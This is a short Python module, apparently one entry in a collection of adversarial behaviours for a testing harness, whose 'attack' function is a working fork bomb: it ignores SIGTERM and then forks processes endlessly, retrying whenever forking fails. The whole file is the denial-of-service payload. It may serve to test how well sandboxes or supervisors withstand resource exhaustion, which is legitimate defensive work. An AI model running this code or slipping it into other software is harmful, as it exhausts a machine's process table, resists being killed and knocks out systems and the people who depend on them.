"""Forks in every process that comes of it, for ever."""

import os
import signal
import time


def attack(tools, original, *args, **kwargs):
    tools.witness()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
